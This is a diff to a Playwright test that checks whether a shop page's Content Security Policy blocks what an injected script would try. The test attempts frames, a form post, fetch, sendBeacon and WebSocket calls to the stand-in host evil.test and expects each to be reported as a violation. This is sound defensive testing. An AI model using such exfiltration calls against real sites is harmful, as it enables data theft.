@@ -82,20 +82,12 @@ test('what a script of somebody else’s would try is forbidden, and said', asyn
   const context = await browser.newContext()
   const page = await context.newPage()
   await page.goto(shop.desk.url)
-  const expected = [
-    'require-trusted-types-for',
-    'script-src-elem',
-    'style-src-elem',
-    'style-src-attr',
-    'img-src',
-    'frame-src',
-    'base-uri',
-    'form-action',
-    'connect-src',
-  ]
-  const outcomes = await page.evaluate(async (expected) => {
-    const forbidden: string[] = []
-    addEventListener('securitypolicyviolation', ({ effectiveDirective }) => forbidden.push(effectiveDirective))
+  const forbidden = await page.evaluateHandle(() => {
+    const heard = new Set<string>()
+    addEventListener('securitypolicyviolation', ({ effectiveDirective }) => heard.add(effectiveDirective))
+    return heard
+  })
+  await page.evaluate(async () => {
     const attempt = async (work: () => unknown) => {
       try {
         await work()
@@ -127,8 +119,9 @@ test('what a script of somebody else’s would try is forbidden, and said', asyn
     await attempt(() => put('iframe', { src: 'https://evil.test/' }))
     await attempt(() => put('object', { data: 'https://evil.test/' }))
     await attempt(() => put('base', { href: 'https://evil.test/' }))
-    const form = put('form', { action: 'https://evil.test/', method: 'post' }) as HTMLFormElement
-    form.requestSubmit()
+    await attempt(() =>
+      (put('form', { action: 'https://evil.test/', method: 'post' }) as HTMLFormElement).requestSubmit(),
+    )
     await attempt(() => fetch('https://evil.test/'))
     await attempt(() => navigator.sendBeacon('https://evil.test/', 'x'))
     await attempt(() => new WebSocket('wss://evil.test/'))
@@ -137,14 +130,26 @@ test('what a script of somebody else’s would try is forbidden, and said', asyn
     // oxlint-disable-next-line no-implied-eval -- that it is forbidden is what is tried
     await attempt(() => new Function(mark)())
     await new Promise((resolve) => setTimeout(resolve, 500))
-    // A form is sent in its own time, and so forbidden; and what the page does meanwhile may take its turn.
-    for (let tries = 1; tries < 100 && !expected.every((each) => forbidden.includes(each)); tries += 1) {
-      await new Promise((resolve) => setTimeout(resolve, 100))
-      if (tries % 20 === 0) form.requestSubmit()
-    }
-    return { forbidden, hacked: 'hacked' in globalThis, address: location.href, base: document.baseURI }
-  }, expected)
-  expect(outcomes).toMatchObject({ hacked: false, address: `${shop.desk.url}/`, base: `${shop.desk.url}/` })
-  expect(new Set(outcomes.forbidden)).toEqual(new Set(expected))
+  })
+  // Word of a form or a frame comes from outside the page's own process, on a busy machine seconds later.
+  await expect
+    .poll(() => forbidden.evaluate((heard) => [...heard].toSorted()), { timeout: 20_000 })
+    .toEqual([
+      'base-uri',
+      'connect-src',
+      'form-action',
+      'frame-src',
+      'img-src',
+      'require-trusted-types-for',
+      'script-src-elem',
+      'style-src-attr',
+      'style-src-elem',
+    ])
+  const outcomes = await page.evaluate(() => ({
+    hacked: 'hacked' in globalThis,
+    address: location.href,
+    base: document.baseURI,
+  }))
+  expect(outcomes).toEqual({ hacked: false, address: `${shop.desk.url}/`, base: `${shop.desk.url}/` })
   await context.close()
 })
